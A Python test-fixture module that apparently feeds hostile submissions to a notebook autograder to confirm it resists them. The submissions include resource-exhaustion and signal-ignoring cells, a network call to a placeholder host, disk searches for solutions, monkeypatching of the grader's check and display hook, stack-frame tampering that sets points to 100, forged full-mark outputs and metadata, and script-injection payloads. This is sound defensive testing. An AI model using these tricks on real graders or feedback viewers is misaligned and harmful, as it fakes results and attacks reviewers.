"""Programs that a demonstration class hands in to earn what it did not, or to do harm.

Each stands in one answer cell in place of an answer, or changes a notebook whose answers are
blank. It earns nothing, and it takes nothing from the other tasks of its notebook: so its
marks are known.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import nbformat
from nbformat import NotebookNode

#: What a result of full marks looks like in a notebook's outputs.
_RESULT = "application/vnd.lmhead.result+json"


@dataclass(frozen=True)
class Program:
    """A hostile answer cell. note: the id of a message that its summary must hold, or None."""

    name: str
    about: str
    source: str
    note: str | None = None


PROGRAMS = (
    Program(
        "ends-the-process",
        "Ends the process that runs it.",
        "import os\nos._exit(0)",
        "cell/killed",
    ),
    Program(
        "never-ends",
        "An endless loop.",
        "while True:\n    pass",
        "cell/out-of-time",
    ),
    Program(
        "takes-all-memory",
        "Asks for more and more memory.",
        "kept = []\nwhile True:\n    kept.append(bytearray(2**28))",
    ),
    Program(
        "floods-the-output",
        "Prints without end in sight.",
        "for _ in range(200):\n    print('all work and no play ' * 10_000)",
    ),
    Program(
        "leaves-processes",
        "Leaves processes behind that outlive it.",
        "import os, time\n"
        "for _ in range(8):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        time.sleep(100_000)",
    ),
    Program(
        "ignores-signals",
        "Ignores every signal, leaves a thread running, and exits.",
        "import signal, sys, threading, time\n"
        "for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):\n"
        "    signal.signal(number, signal.SIG_IGN)\n"
        "threading.Thread(target=time.sleep, args=(100_000,)).start()\n"
        "sys.exit(0)",
    ),
    Program(
        "calls-home",
        "Sends what it finds over the network.",
        "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=1)",
    ),
    Program(
        "searches-the-disk",
        "Looks for the solutions and the gradebook, and would run what it found.",
        "import os\n"
        "for place, _, files in os.walk('/home'):\n"
        "    for name in files:\n"
        "        if name.endswith(('.ipynb', '.db')):\n"
        "            raise SystemExit('found ' + os.path.join(place, name))\n"
        "raise FileNotFoundError('no solutions here')",
    ),
    Program(
        "imports-the-reference",
        "Takes the course's own functions for its answers.",
        "from lmhead.softmax import softmax\nfrom lmhead.decoding import pick, greedy",
    ),
    Program(
        "own-check",
        "Its own check, its own display hook, and an object that equals everything.",
        "import builtins, sys\n\n\n"
        "class Equal:\n"
        "    def __eq__(self, other):\n"
        "        return True\n\n"
        "    def __bool__(self):\n"
        "        return True\n\n\n"
        "def check(*work, **options):\n"
        "    return 100\n\n\n"
        "builtins.check = check\n"
        "sys.displayhook = lambda value: print('100')\n"
        "Equal()",
    ),
    Program(
        "rewrites-cells",
        "A transformer that takes every assertion and every check out of later cells.",
        "from IPython import get_ipython\n\n"
        "get_ipython().input_transformers_cleanup.append(\n"
        "    lambda lines: [line for line in lines if not line.startswith(('check', 'assert'))]\n"
        ")",
    ),
    Program(
        "reads-the-frames",
        "Looks for the grader in the frames above it and in IPython's history.",
        "import gc, sys\n\n"
        "frame = sys._getframe()\n"
        "while frame is not None:\n"
        "    for value in list(frame.f_locals.values()):\n"
        "        if type(value).__name__ in ('Grading', 'Trial', 'Master'):\n"
        "            value.points = 100\n"
        "    frame = frame.f_back\n"
        "found = [each for each in gc.get_objects() if type(each).__name__ == 'Result']\n"
        "print(len(found), len(In))",
    ),
)


def _forged_outputs(notebook: NotebookNode) -> None:
    """Outputs that claim full marks, in every grade cell."""
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and marks.get("grade"):
            claim: dict[str, Any] = {"points": 100, "max_points": 100, "parts": []}
            cell.outputs = [
                NotebookNode(
                    output_type="execute_result",
                    execution_count=1,
                    metadata=NotebookNode(),
                    data=NotebookNode({"text/plain": "100", _RESULT: claim}),
                )
            ]


def _forged_marks(notebook: NotebookNode) -> None:
    """A thousand points for each task, and every grade cell an answer of the learner's own."""
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader")
        if marks and marks.get("grade"):
            marks.update(points=1000, solution=True, locked=False, schema_version=99)


def _passing_tests(notebook: NotebookNode) -> None:
    """Each grade cell says 100 in place of its check."""
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "100"


def _scripts(notebook: NotebookNode) -> None:
    """Scripts for whoever opens the feedback, in Markdown, in a cell's HTML and in an image."""
    text = (
        "<script>document.title = 'taken'</script>\n\n"
        '<img src="x" onerror="document.title = \'taken\'">\n\n'
        "[marks](javascript:document.title='taken')"
    )
    code = f"from IPython.display import HTML\nHTML({json.dumps(text)})"
    notebook.cells += [
        nbformat.v4.new_markdown_cell(text, id="scripts"),
        nbformat.v4.new_code_cell(code, id="scripts-shown"),
    ]


@dataclass(frozen=True)
class Forgery:
    """A change to a whole notebook, made without answering any task. note: as for `Program`."""

    name: str
    about: str
    change: Callable[[NotebookNode], None]
    note: str | None = None


FORGERIES = (
    Forgery("forged-outputs", "Claims full marks in the outputs.", _forged_outputs),
    Forgery("forged-marks", "Claims a thousand points a task.", _forged_marks),
    Forgery(
        "passing-tests",
        "Says 100 where its checks were.",
        _passing_tests,
        "restore/changed-cell",
    ),
    Forgery("scripts", "Scripts for whoever opens its feedback.", _scripts),
)
